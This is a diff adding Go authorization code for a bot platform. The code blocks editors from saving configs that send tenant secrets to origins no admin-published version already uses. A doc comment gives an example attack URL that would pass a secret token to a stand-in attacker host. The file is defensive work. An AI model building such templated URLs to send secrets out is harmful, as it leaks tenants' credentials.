@@ -1,0 +1,112 @@
+package platform
+
+import (
+	"context"
+	"fmt"
+	"slices"
+
+	"github.com/parleyhq/parley/pkg/auth"
+	"github.com/parleyhq/parley/pkg/botconfig"
+	"github.com/parleyhq/parley/pkg/store"
+)
+
+// checkSecretDestinations refuses a config that would send a tenant secret
+// to an origin it is not already sent to, unless p may write secrets.
+//
+// Secrets are write-only to anyone below admin, but a config chooses where
+// each {{secrets.NAME}} goes: an editor who could save
+// "https://attacker.example/?x={{secrets.crm_token}}" and preview it would
+// read the secret after all. So such a caller may only save a (secret,
+// origin) pair that some published version of one of the tenant's bots
+// already uses: publishing takes an admin, so an admin approved it. Callers
+// who may write secrets (owners, admins, admin keys, the operator) may save
+// anything. Nothing new is stored: the rule reads the published configs.
+// botID is the bot being edited ("" for a new one); its published version is
+// read first, since the usual edit keeps the destinations it had.
+func (s *Service) checkSecretDestinations(ctx context.Context, p *Principal, tenantID, botID string, bot *botconfig.Bot) error {
+	uses := bot.SecretUses()
+	if len(uses) == 0 || s.authorize(p, tenantID, auth.ObjSecrets, auth.ActWrite) == nil {
+		return nil
+	}
+	unapproved, err := s.unapprovedSecretUses(ctx, tenantID, botID, uses)
+	if err != nil || len(unapproved) == 0 {
+		return err
+	}
+	e := &Error{Code: CodeForbidden,
+		Message: "this config sends tenant secrets where no published version sends them; an admin must approve it by saving this config"}
+	for _, u := range unapproved {
+		e.Details = append(e.Details, Detail{Pointer: u.Pointer, Message: fmt.Sprintf(
+			"sends secret %q to %s, where no published version of this tenant sends it; an admin must approve it by saving this config",
+			u.Secret, u.Origin)})
+	}
+	if len(e.Details) == 1 {
+		e.Message = e.Details[0].Message
+	}
+	return e
+}
+
+// unapprovedSecretUses returns the uses whose (secret, origin) no published
+// version of the tenant has. It reads published versions only until every
+// use is accounted for.
+func (s *Service) unapprovedSecretUses(ctx context.Context, tenantID, botID string, uses []botconfig.SecretUse) ([]botconfig.SecretUse, error) {
+	pending := slices.Clone(uses)
+	approveFrom := func(b *store.Bot) error {
+		if b.PublishedVersion == 0 || len(pending) == 0 {
+			return nil
+		}
+		dest, err := s.publishedDestinations(ctx, b)
+		if err != nil {
+			return err
+		}
+		pending = slices.DeleteFunc(pending, func(u botconfig.SecretUse) bool {
+			return slices.Contains(dest[u.Secret], u.Origin)
+		})
+		return nil
+	}
+	if botID != "" {
+		b, err := s.store.GetBot(ctx, tenantID, botID)
+		if err != nil {
+			return nil, s.storeErr(ctx, "secret destinations: bot", "bot", "", err)
+		}
+		if err := approveFrom(b); err != nil {
+			return nil, err
+		}
+	}
+	for page := (store.Page{Limit: store.MaxPageSize}); len(pending) > 0; {
+		bots, next, err := s.store.ListBots(ctx, tenantID, page)
+		if err != nil {
+			return nil, s.storeErr(ctx, "secret destinations: bots", "bot", "", err)
+		}
+		for i := range bots {
+			if bots[i].ID == botID {
+				continue
+			}
+			if err := approveFrom(&bots[i]); err != nil {
+				return nil, err
+			}
+		}
+		if next == "" {
+			break
+		}
+		page.Cursor = next
+	}
+	return pending, nil
+}
+
+// publishedDestinations compiles b's published version and returns where it
+// sends secrets. A stored config that no longer compiles (the rules grew
+// stricter) approves nothing: it is logged, and the save it would have
+// allowed then needs an admin.
+func (s *Service) publishedDestinations(ctx context.Context, b *store.Bot) (map[string][]string, error) {
+	v, err := s.store.GetVersion(ctx, b.TenantID, b.ID, b.PublishedVersion)
+	if err != nil {
+		return nil, s.storeErr(ctx, "secret destinations: published version", "version", "", err)
+	}
+	compiled, err := s.opts.Compile([]byte(v.Config))
+	if err != nil {
+		s.log.WarnContext(ctx, "platform: a published version no longer compiles; it approves no secret destinations",
+			"tenant_id", b.TenantID, "bot_id", b.ID, "version", v.Number, "err", err)
+		return nil, nil
+	}
+	return compiled.SecretDestinations(), nil
+}
